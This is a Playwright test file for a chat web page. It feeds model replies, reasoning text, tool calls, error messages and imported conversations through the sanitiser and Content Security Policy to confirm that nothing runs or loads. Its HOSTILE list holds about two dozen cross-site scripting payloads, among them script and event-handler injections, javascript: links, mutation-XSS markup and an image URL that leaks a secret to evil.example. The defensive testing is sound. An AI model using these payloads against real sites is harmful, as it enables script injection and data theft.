"""What a worker sends is a stranger's text: nothing of it may run or load."""

import json
from typing import Any

import pytest

pytest.importorskip("playwright", reason="playwright isn't installed: the extra `browser`")

from playwright.sync_api import FilePayload, Route, expect

from playground.chat_page import ChatPage
from playground.site import OFFLINE, PLAIN, Site, running_site, scripted

RUN = "window.hacked = (window.hacked || 0) + 1"
HOSTILE = [
    f"<script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f'<svg onload="{RUN}"><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<body onload="{RUN}"><details open ontoggle="{RUN}">x</details>',
    f'<form action="javascript:{RUN}"><input autofocus onfocus="{RUN}"></form>',
    '<base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/a.css">',
    '<style>body { display: none }</style><p style="position:fixed;inset:0">over all</p>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    f"[a](javascript:{RUN})",
    f"[b](JaVaScRiPt&#58;{RUN})",
    f"[c](data:text/html,<script>{RUN}</script>)",
    f"[d](vbscript:{RUN})",
    f'[e](https://evil.example/ "x\\" onmouseover=\\"{RUN}")',
    f"<javascript:{RUN}>",
    "![secret](https://evil.example/track.png?q=secret)",
    f'![x](x"onerror="{RUN})',
    "![y](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    f"```html\n<script>{RUN}</script>\n```",
    f'```"><img src=x onerror={RUN}>\ncode\n```',
    f"<math><mtext><table><mglyph><style><!--</style><img title=x onerror='{RUN}'>",
    f"| <img src=x onerror={RUN}> |\n|---|\n| [a](javascript:{RUN}) |",
    f"[ref]\n\n[ref]: javascript:{RUN}",
    '<p id="send" class="primary">Send</p><div id="conversation"></div>',
]


@pytest.fixture
def foreign(chat: ChatPage) -> list[str]:
    """The requests that the page makes of anyone else."""
    seen: list[str] = []

    def note(route: Route) -> None:
        seen.append(route.request.url)
        route.abort()

    chat.page.route(lambda url: "127.0.0.1" not in url and not url.startswith("data:"), note)
    return seen


def is_harmless(chat: ChatPage, foreign: list[str]) -> None:
    """Nothing has run, nothing was loaded, and only allowed elements and attributes stand there."""
    chat.page.evaluate("() => new Promise((done) => setTimeout(done, 0))")
    assert chat.page.evaluate("window.hacked") is None
    assert foreign == []
    found: list[dict[str, Any]] = chat.page.evaluate(
        """() => [...document.querySelectorAll(".reply *")].map((element) => ({
            tag: element.localName,
            names: [...element.attributes].map((attribute) => attribute.name),
            href: element.getAttribute("href"),
        }))"""
    )
    tags = {element["tag"] for element in found}
    banned = "script style iframe object embed svg math form input img base link meta body"
    assert not tags & set(banned.split())
    for element in found:
        assert not [name for name in element["names"] if name.startswith("on") or name == "style"]
        assert "id" not in element["names"]
        if element["href"] is not None:
            assert element["href"].startswith(("https://", "http://", "mailto:"))
    for link in chat.page.locator(".reply .markdown a").all():
        assert link.get_attribute("target") == "_blank"
        assert "noopener" in (link.get_attribute("rel") or "")


def ask_for(chat: ChatPage, site: Site, **options: Any) -> None:
    chat.open(site.page_url)
    chat.fill("api_key", "rich-key")
    chat.choose(OFFLINE)
    chat.fill("max_tokens", "4096")
    for name in options:
        chat.check(name)
    chat.say("Go")


def worker(**rule: Any) -> dict[str, Any]:
    return scripted({"match": ".", **rule}, max_length=4096, tokens_per_second=2000)


@pytest.mark.parametrize("way", ["streamed", "whole"])
def test_hostile_markdown_cannot_run(way: str, chat: ChatPage, foreign: list[str]) -> None:
    """No script, handler, frame, style or foreign load of a reply gets through."""
    with running_site(workers=[worker(text="\n\n".join(HOSTILE))]) as site:
        ask_for(chat, site, **({"whole": True} if way == "whole" else {}))
        assert "<script>" in chat.text
        assert "Image: secret" in chat.text
        is_harmless(chat, foreign)
        expect(chat.page.locator("#send")).to_be_visible()


def test_each_hostile_piece_alone(chat: ChatPage, foreign: list[str]) -> None:
    """Each piece as a reply of its own: none depends on what stands before it."""
    rules = [{"match": f"^go {at}$", "text": text} for at, text in enumerate(HOSTILE)]
    with running_site(
        workers=[scripted(*rules, tokens_per_second=2000, progress_interval=0.1)]
    ) as s:
        chat.open(s.page_url)
        chat.choose(OFFLINE)
        whole = {"format": "horde-chat-conversation", "version": 1}
        replies = [{"role": "assistant", "content": text} for text in HOSTILE]
        asked = [{"role": "user", "content": text} for text in HOSTILE]
        turns = [turn for pair in zip(asked, replies, strict=True) for turn in pair]
        file: FilePayload = {
            "name": "a.json",
            "mimeType": "application/json",
            "buffer": json.dumps({**whole, "messages": turns}).encode(),
        }
        chat.page.locator("#import-file").set_input_files([file])
        expect(chat.page.locator(".turn")).to_have_count(2 * len(HOSTILE))
        expect(chat.page.locator(".reply[aria-busy=true]")).to_have_count(0)
        is_harmless(chat, foreign)


def test_hostile_reasoning_calls_and_results(chat: ChatPage, foreign: list[str]) -> None:
    """What is shown beside the reply is text as well."""
    bad = HOSTILE[1]
    rules: list[dict[str, object]] = [
        {"match": "^Error", "text": "Done."},
        {
            "match": ".",
            "reasoning": bad,
            "calls": [{"name": "calculate", "arguments": {"expression": bad}}],
        },
    ]
    profile = scripted(*rules, features=["tools", "progress"])
    with running_site(workers=[profile]) as site:
        chat.open(site.page_url)
        chat.choose(OFFLINE)
        chat.offer_tool("calculate")
        chat.say("Go")
        assert chat.page.locator(".call pre").first.inner_text().count("onerror") == 1
        assert chat.text == "Done."
        is_harmless(chat, foreign)


def test_hostile_error_and_details(chat: ChatPage, foreign: list[str]) -> None:
    """Nor does a worker's name, a notice, a model's id or an error's message become markup."""
    bad = HOSTILE[1]
    chunks: list[Any] = [
        {"model": bad, "choices": [{"index": 0, "delta": {"content": "Hi"}}]},
        {
            "model": bad,
            "choices": [{"index": 0, "delta": {}, "finish_reason": "stop"}],
            "x_horde": {
                "worker_name": bad,
                "kudos": 1,
                "notice": bad,
                "context_adjustments": [{"reason": bad, "from": bad, "to": bad}],
            },
        },
        {"error": {"message": bad, "code": bad, "param": bad, "metadata": {"request_id": bad}}},
    ]
    streams = [chunks[:2], chunks[2:]]
    with running_site() as site:
        chat.open(site.page_url)
        chat.choose(PLAIN)
        chat.spoil(
            lambda route: route.fulfill(
                content_type="text/event-stream",
                body="".join(f"data: {json.dumps(chunk)}\n\n" for chunk in streams.pop(0))
                + "data: [DONE]\n\n",
            )
        )
        chat.say("Go")
        assert bad in chat.served
        assert bad in chat.notices()
        is_harmless(chat, foreign)
        chat.say("Go")
        assert bad in chat.error
        is_harmless(chat, foreign)


def test_policy_stands_behind_the_sanitiser(chromium: Any) -> None:
    """If markup did get in, the page's policy keeps it from running and from loading."""
    with running_site() as site:
        context = chromium.new_context()
        page = context.new_page()
        page.goto(site.page_url)
        thrown = page.evaluate(
            f"""() => {{
                const attempts = [
                    () => {{ document.body.innerHTML = '<img src=x onerror="{RUN}">'; }},
                    () => {{ document.createElement("script").textContent = "{RUN}"; }},
                    () => document.write("<script>{RUN}</" + "script>"),
                    () => document.body.setAttribute("onclick", "{RUN}"),
                ];
                return attempts.map((attempt) => {{
                    try {{ attempt(); return false; }} catch {{ return true; }}
                }});
            }}"""
        )
        assert thrown == [True, True, True, True]
        page.evaluate(
            f"""() => {{
                const link = document.createElement("a");
                link.href = "javascript:{RUN}";
                document.body.append(link);
                link.click();
            }}"""
        )
        loaded = page.evaluate(
            """() => new Promise((done) => {
                const image = new Image();
                image.onload = () => done("loaded");
                image.onerror = () => done("refused");
                image.src = "https://evil.example/track.png";
            })"""
        )
        assert loaded == "refused"
        assert page.evaluate("window.hacked") is None
        context.close()
